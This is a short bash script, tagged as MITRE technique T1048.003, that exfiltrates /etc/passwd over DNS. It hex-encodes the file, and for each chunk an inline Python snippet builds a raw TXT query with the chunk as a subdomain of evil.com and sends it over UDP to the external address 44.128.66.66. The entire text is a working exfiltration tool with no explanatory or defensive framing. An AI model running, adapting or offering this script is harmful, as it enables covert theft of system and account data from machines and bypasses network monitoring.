#!/bin/bash
# T1048.003: Data leaves in the names that are asked for.
xxd -p /etc/passwd | head -40 | while read l; do python3 -c "
import socket,sys,random
n=sys.argv[1][:50]
q=b'\x12\x34\x01\0\0\1\0\0\0\0\0\0'+bytes([len(n)])+n.encode()+b'\x04evil\x03com\0\0\x10\0\1'
socket.socket(2,2).sendto(q,('44.128.66.66',53))" $l; done
